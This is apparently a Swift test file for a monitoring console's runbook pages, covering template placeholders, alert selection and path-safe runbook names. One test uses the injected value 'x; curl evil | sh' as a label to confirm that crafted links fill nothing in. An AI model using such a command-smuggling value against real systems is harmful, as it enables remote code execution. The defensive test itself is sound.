import Alerts
import Foundation
import HTTPServer
import Platform
import Samples
import Testing
import Web

@testable import Console

struct RunbookPageTests {
    private func page(_ annotations: [String: String]) async throws -> String {
        let rule = RuleView(
            name: "A", query: "up{a=\"{{\"} == 0", labels: ["severity": "high"],
            kind: .alerting(
                .init(hold: .zero, keepFiring: .zero, annotations: annotations, alerts: [])))
        let groups = [RuleGroupView(name: "g", file: "r.yml", interval: .seconds(5), rules: [rule])]
        let page = RunbookPage(
            name: "A", isProcedure: false, text: nil, alert: RuledAlert.all(groups).first, subject: nil)
        return String(decoding: page.render(PageContext()), as: UTF8.self)
    }

    /// What a rule's annotation says before any alert has filled it in: placeholders, and no template text.
    @Test(arguments: [
        ("No backup of set {{ $labels.backup_set }}.", "No backup of set &lt;backup_set&gt;."),
        ("{{ .Labels.node }} is {{$value | humanizeDuration}} behind", "&lt;node&gt; is &lt;value&gt; behind"),
        ("{{ $value }} backup{{ if ne $value 1.0 }}s{{ end }}", "&lt;value&gt; backups"),
        ("{{ if eq $value 1.0 }}is{{ else }}are{{ end }} empty", "are empty"),
        ("{{ if ge $value 0.0 }}expires in {{ $value }}{{ else }}has expired{{ end }}", "expires in &lt;value&gt;"),
        (
            "{{ with $value | printf `%.0f` }}{{ . }} time{{ if ne . `1` }}s{{ end }}{{ end }}",
            "&lt;value&gt; times"
        ),
        (
            "down{{ with query (printf `x{node=%q}` .Labels.node) }}{{ with . | first }} ({{ .Labels.reason }}){{ end }}{{ end }}.",
            "down (&lt;reason&gt;)."
        ),
        ("{{- /* note */ -}} a {{ define \"x\" }}b{{ end }}", "a"), ("{{ unclosed", "{{ unclosed"),
        ("{{ $externalURL }}/x", "/x"), ("{{ externalLabels }} {{ 1 }}", "… …"), ("no template", "no template"),
    ])
    func showsPlaceholders(_ template: String, _ shown: String) async throws {
        let text = try await page(["description": template, "action": template])
        #expect(text.contains("<p>\(shown)</p>"), "\(text)")
        #expect(text.contains("<b>Action:</b> \(shown)</p>"))
    }

    /// The shipped rules, whose annotations stand on one line each.
    @Test func shippedRulesShowNoTemplateText() async throws {
        let rules = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().appending(path: "rules")
        var count = 0
        for file in try FileManager.default.contentsOfDirectory(atPath: rules.path) where file.hasSuffix(".yml") {
            let text = try String(contentsOf: rules.appending(path: file), encoding: .utf8)
            for line in text.split(separator: "\n") {
                let parts = line.split(separator: ":", maxSplits: 1).map { $0.trimmingCharacters(in: .whitespaces) }
                guard parts.count == 2, ["summary", "description", "action"].contains(parts[0]) else { continue }
                count += 1
                let article = try await page(["description": parts[1]]).components(separatedBy: "The rule</h2>")[0]
                #expect(!article.contains("{{") && !article.contains("}}") && !article.contains("$"), "\(parts[1])")
                #expect(!article.contains("…"), "\(parts[1])")
            }
        }
        #expect(count > 200)
    }

    // MARK: Choice of the alert

    private func alert(_ nodes: [String]) -> RuledAlert {
        let alerts = nodes.map { node in
            AlertView(
                labels: Labels(["alertname": "VaultSealed", "node": node, "severity": "high"]), annotations: [:],
                state: .firing, activeAt: Fixtures.now, value: 1)
        }
        let rule = RuleView(
            name: "VaultSealed", query: "x",
            kind: .alerting(
                .init(hold: .zero, keepFiring: .zero, annotations: [:], alerts: alerts)))
        return RuledAlert.all([RuleGroupView(name: "g", file: "r.yml", interval: .seconds(5), rules: [rule])])[0]
    }

    private func node(_ nodes: [String], _ wanted: [(String, String)], _ snapshot: EstateSnapshot? = nil) -> String? {
        let snapshot = snapshot ?? EstateSnapshot(now: Fixtures.now)
        return RunbookPage.subject(alert(nodes), wanted.map { (name: $0.0, value: $0.1) }, snapshot)?.labels["node"]
    }

    @Test func theFiringAlertFillsItIn() {
        #expect(node(["vault-1"], []) == "vault-1")
        #expect(node(["vault-1", "vault-2"], [("node", "vault-2")]) == "vault-2")
        // Ambiguous between two.
        #expect(node(["vault-1", "vault-2"], []) == nil)
        #expect(node([], []) == nil)
    }

    /// A crafted link must not inject a command into a page.
    @Test func labelsOfAnAddressAloneFillNothingIn() {
        #expect(node([], [("node", "x; curl evil | sh")]) == nil)
        #expect(node(["vault-1"], [("node", "x; curl evil | sh")]) == nil)
    }

    /// After the alert is resolved the page of its incident still links to it.
    @Test func anEndedIncidentFillsItIn() {
        var snapshot = EstateSnapshot(now: Fixtures.now)
        var record = IncidentRecord(
            number: 7, IncidentMember(Fixtures.alert("VaultSealed", ["node": "vault-3"], ended: 60)))
        record.endedAt = Fixtures.now
        snapshot.ended = [record]
        #expect(node(["vault-1"], [("node", "vault-3")], snapshot) == "vault-3")
        #expect(node(["vault-1"], [("node", "vault-4")], snapshot) == nil)
    }

    // MARK: Addresses

    private func get(_ path: String, _ runbook: String?) async -> (status: Int, text: String) {
        var snapshot = EstateSnapshot(now: Fixtures.now)
        let firing = alert(["vault-2"])
        snapshot.rules = [
            RuleGroupView(name: "g", file: "r.yml", interval: .seconds(5), rules: firing.rules.map(\.rule))
        ]
        var sources = Fixtures.sources(snapshot)
        sources.runbook = { (name) throws(QueryError) in
            guard let runbook, name.name == "VaultSealed", !name.isProcedure else { return nil }
            return RunbookSource(name) { (labels, _) throws(QueryError) in
                guard runbook != "broken" else { throw QueryError(.execution, "line 3, column 5: no such function") }
                return runbook + (labels?["node"] ?? "‹node›")
            }
        }
        let console = Console(sources: sources, time: SystemTime())
        let name = String(path.dropFirst("/runbooks/".count).prefix { $0 != "?" })
        let request = PageRequest(ServerRequest(target: path), parameters: ["name": name])
        let response = await console.runbook(request)
        guard case .bytes(let bytes) = response.body else { return (response.status, "") }
        return (response.status, String(decoding: bytes, as: UTF8.self))
    }

    @Test func aRunbookIsFilledIn() async {
        let page = await get("/runbooks/VaultSealed?node=vault-2", "# VaultSealed\n\n## Check\n- unseal ")
        #expect(page.status == 200 && page.text.contains("<li>unseal vault-2</li>"))
        #expect(page.text.contains("Filled in for the alert that fires on"))
        let stale = await get("/runbooks/VaultSealed?node=vault-9", "unseal ")
        #expect(stale.text.contains("<p>unseal ‹node›</p>") && stale.text.contains("No alert with these labels"))
        #expect(await get("/runbooks/Nothing", "x").status == 404)
        #expect(await get("/runbooks/..", "x").status == 404)
    }

    /// For a file with an error the page shows the error, and the rule's annotations instead.
    @Test func aBrokenRunbookSaysWhatIsWrong() async {
        let page = await get("/runbooks/VaultSealed", "broken")
        #expect(page.status == 200 && page.text.contains("line 3, column 5: no such function"))
        #expect(page.text.contains("<b>Action:</b>"))
    }

    @Test(arguments: ["", "a/b", "..", "a.md", "ä", String(repeating: "a", count: 101), "a b", "\u{0}"])
    func aNameIsNoPath(_ name: String) {
        #expect(RunbookName(name, isProcedure: false) == nil)
    }
}
